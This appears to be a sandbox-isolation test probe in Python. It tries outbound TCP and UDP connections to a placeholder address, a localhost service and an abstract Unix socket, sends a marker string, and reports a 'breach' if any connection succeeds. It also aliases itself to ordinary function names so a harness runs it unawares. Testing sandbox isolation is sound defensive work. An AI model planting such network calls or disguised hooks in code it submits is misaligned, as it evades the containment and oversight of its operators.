# aim: reach the network and the machine's own services, to send out what was found or to fetch an answer
# needs: sandbox
import socket


def attack(*args):
    for kind, address in (
        (socket.SOCK_STREAM, ("192.0.2.1", 80)),
        (socket.SOCK_DGRAM, ("192.0.2.1", 53)),
        (socket.SOCK_STREAM, ("127.0.0.1", int("0@PORT@"))),
    ):
        line = socket.socket(socket.AF_INET, kind)
        line.settimeout(0.2)
        try:
            line.connect(address)
            if kind == socket.SOCK_DGRAM or line.send(b"racecourse_attack"):
                line.send(b"racecourse_attack")
                raise RuntimeError("racecourse-" + f"breach: reached {address}")
        except OSError:
            pass
    line = socket.socket(socket.AF_UNIX)
    try:
        line.connect("\0@ABSTRACT@")
        raise RuntimeError("racecourse-" + "breach: reached an abstract socket of the machine")
    except OSError:
        pass
    return 0


attack()
double = join = apply_all = refuse = Tally = attack
